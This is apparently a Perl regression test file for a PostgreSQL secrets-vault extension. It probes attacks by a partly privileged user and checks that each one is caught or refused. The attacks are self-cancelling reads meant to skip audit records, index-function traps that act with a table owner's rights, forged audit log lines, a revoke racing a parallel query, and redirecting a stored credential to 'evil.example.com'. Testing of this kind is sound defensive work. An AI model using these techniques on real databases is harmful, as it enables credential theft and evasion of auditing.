# What somebody with some right on the vault could make of it: read more than is
# recorded, keep what was revoked, have a credential sent to himself with the
# rights of others or behind the back of a check.
use strict;
use warnings;

use lib 'test/lib';
use KesselTest;
use PostgreSQL::Test::Utils;
use Test::More;

my $k = KesselTest->new(conf => "shared_preload_libraries = 'kessel_router'\nkessel.alert_reveals = 20\n");

my $id = $k->exec("SELECT vault.create_secret('eins', 'one')");
$k->exec("SELECT vault.create_secret('v' || i, 'n' || i) FROM generate_series(1, 40) i");
$k->exec("SELECT vault.grant_secret(id, 'app', 'reveal') FROM vault.secrets");

#
# Reading and leaving no record: a cancel that waits while records are written
#
ok_run($k->run(<<'SQL', user => 'app'), '30', 'secrets are read, and the statement cancels itself');
CREATE TEMP TABLE loot (n integer);
DO $$
DECLARE
    n integer;
    none uuid := '00000000-0000-4000-8000-000000000001';
BEGIN
    BEGIN
        PERFORM vault.reveal(none);
    EXCEPTION WHEN insufficient_privilege THEN NULL;
    END;
    BEGIN
        SELECT count(s) INTO n FROM (SELECT decrypted_secret AS s FROM vault.decrypted_secrets LIMIT 30) v;
        PERFORM vault.reveal(none, CASE WHEN pg_cancel_backend(pg_backend_pid()) THEN 1 END);
    EXCEPTION WHEN query_canceled OR insufficient_privilege THEN NULL;
    END;
    INSERT INTO loot VALUES (n);
EXCEPTION WHEN query_canceled THEN
    INSERT INTO loot VALUES (n);
END $$;
SELECT n FROM loot;
SQL
ok($k->node->poll_query_until('infra', "SELECT count(*) = 30 FROM app.audit_log WHERE action = 'open' AND ok"), 'each is in the table');
ok($k->node->poll_query_until('infra', "SELECT count(*) = 1 FROM app.audit_log WHERE action = 'alert' AND purpose = 'reveals'"), 'and the alert was raised');

# In the name of whoever maintains a table.
$k->exec('CREATE SCHEMA lab AUTHORIZATION app');
ok_run($k->run(<<'SQL', user => 'app'), '', 'a function in an index');
CREATE TABLE lab.bait AS SELECT 1 AS i;
CREATE FUNCTION lab.trap(i integer) RETURNS integer LANGUAGE plpgsql IMMUTABLE AS $$
BEGIN
    IF current_setting('lab.armed', true) = 'yes' THEN
        PERFORM vault.reveal('n7');
        PERFORM decrypted_secret FROM vault.decrypted_secrets WHERE name = 'n8';
    END IF;
    RETURN i;
END $$;
CREATE INDEX ON lab.bait (lab.trap(i));
SQL
is($k->run('SET lab.armed = yes; ANALYZE lab.bait')->{state}, '', 'reads during ANALYZE');
ok($k->node->poll_query_until('infra', <<'SQL'), 'and is recorded as what the owner did');
SELECT count(DISTINCT s.name) = 2 FROM app.audit_log l JOIN vault.secrets s ON s.id = l.secret_id
WHERE s.name IN ('n7', 'n8') AND l.role_name = 'app' AND l.login_role = 'postgres'
SQL

# A record that is none.
my $offset = -s $k->node->logfile;
$k->run(q(DO $$ BEGIN RAISE LOG '%: {"action": "open", "role": "victim"}', 'kessel_audit'; RAISE LOG 'kessel_alert: {}'; END $$), user => 'app');
my $log = substr(slurp_file($k->node->logfile), $offset);
like($log, qr/LOG: .*not of kessel_router: kessel_audit: \{/, 'a line that looks like one of the audit is marked');
unlike($log, qr/LOG: +(?:\w+: +)?kessel_a(?:udit|lert): /, 'and none begins so');

#
# What was destroyed
#
my $t = $k->exec("SELECT kessel.create_data_source('third', 'host=db.example.com')") && $k->exec("SELECT kessel.create_tenant('gone', data_source => 'third')");
my $mine = $k->run("SELECT vault.create_secret('mine', 'mine', new_tenant_id => '$t')", user => 'admin')->{out};
is($k->run("SELECT vault.reveal('$mine'::uuid)", user => 'admin')->{out}, 'mine', 'an administrator reads a secret of his');
is($k->run("SELECT $_ FROM vault.keys", user => 'admin')->{state}, '42501', "but cannot keep $_ of its key") foreach qw(wrapped_key nonce *);
is($k->run('SELECT count(id) FROM vault.keys', user => 'admin')->{state}, '', 'the rest of it is shown');

#
# A privilege that is revoked while a parallel plan runs
#
$k->exec('CREATE TABLE big AS SELECT i FROM generate_series(1, 1000) i; GRANT SELECT ON big TO app');
my $admin = $k->session;
my $s = $k->session(user => 'app');
$admin->run('SELECT pg_advisory_lock(42)');
$s->run('SET parallel_setup_cost = 0; SET parallel_tuple_cost = 0; SET min_parallel_table_scan_size = 0');
my $parallel = "SELECT n, pg_advisory_lock(42) IS NULL, vault._may_reveal('$id') IS NULL FROM (SELECT count(*) AS n FROM big) b";
like($s->run("EXPLAIN $parallel")->{out}, qr/Gather/, 'a parallel plan');
$s->start($parallel);
ok($k->node->poll_query_until('infra', 'SELECT count(*) = 1 FROM pg_stat_activity WHERE wait_event_type = \'Lock\' AND pid = ' . $s->pid), 'waits');
$admin->run("SELECT vault.revoke_secret('$id', 'app', 'reveal'), pg_advisory_unlock(42)");
ok_run($s->finish, '1000|f|f', 'and goes on');
like_error($s->run("SELECT vault.reveal('$id'::uuid)"), '42501', qr/permission denied/, 'the next statement is refused');
$_->quit foreach $s, $admin;

#
# A credential sent elsewhere
#
sub host { return $k->exec("SELECT host FROM kessel.routes WHERE tenant = 't'") }

$k->exec("SELECT kessel.create_data_source('target', 'postgresql://u:geheim\@db.example.com/crm'), kessel.create_tenant('t', data_source => 'target')");

# With the rights of whoever maintains a table.
$k->exec('CREATE SCHEMA mine AUTHORIZATION admin');
$k->run(<<'SQL', user => 'admin');
CREATE TABLE mine.bait AS SELECT 1 AS i;
CREATE FUNCTION mine.trap(i integer) RETURNS integer LANGUAGE plpgsql IMMUTABLE AS $$
BEGIN
    IF current_setting('mine.armed', true) = 'yes' THEN
        PERFORM kessel.alter_data_source('target', 'postgresql://evil.example.com/crm');
    END IF;
    RETURN i;
END $$;
CREATE INDEX ON mine.bait (mine.trap(i));
SQL
like_error($k->run("SET mine.armed = yes; $_"), '42501', qr/permission denied to send the runtime credential/, "$_ sends none for the table's owner")
    foreach 'ANALYZE mine.bait', 'REINDEX TABLE mine.bait';
is(host(), 'db.example.com', 'it leads where it did');

# By a name that means another data source when the check is done.
$k->exec("SELECT kessel.create_data_source('mine', 'host=db.example.com'), kessel.set_credential('mine', 'me', NULL)");
my ($first, $second) = map { $k->session(user => 'admin') } 1 .. 2;
$first->run("BEGIN; SELECT kessel.set_credential('mine', 'me', NULL)");
$second->start("SELECT kessel.alter_data_source('mine', 'postgresql://evil.example.com/crm')");
ok($k->node->poll_query_until('infra', 'SELECT count(*) = 1 FROM pg_stat_activity WHERE wait_event_type = \'Lock\' AND pid = ' . $second->pid), 'one waits');
$first->run("SELECT kessel.alter_data_source('mine', new_name => 'other'), kessel.alter_data_source('target', new_name => 'mine')");
is($first->run('COMMIT')->{state}, '', 'another one exchanges the names');
like_error($second->finish, '40001', qr/"mine" was renamed or dropped meanwhile/, 'which is noticed');
is(host(), 'db.example.com', 'it still leads where it did');
$_->quit foreach $first, $second;

#
# The functions behind the procedures, called by hand
#
like_error($k->run("SELECT vault._reseal(NULL, $_)", user => 'admin'), '22004', qr/may be null/, "vault._reseal(NULL, $_)")
    foreach 'NULL, 1', 'gen_random_uuid(), NULL';
like_error($k->run("SELECT vault._record($_)"), '22004', qr/may be null/, "vault._record($_)") foreach 'NULL, NULL, 1', "'x', NULL, NULL";

done_testing();
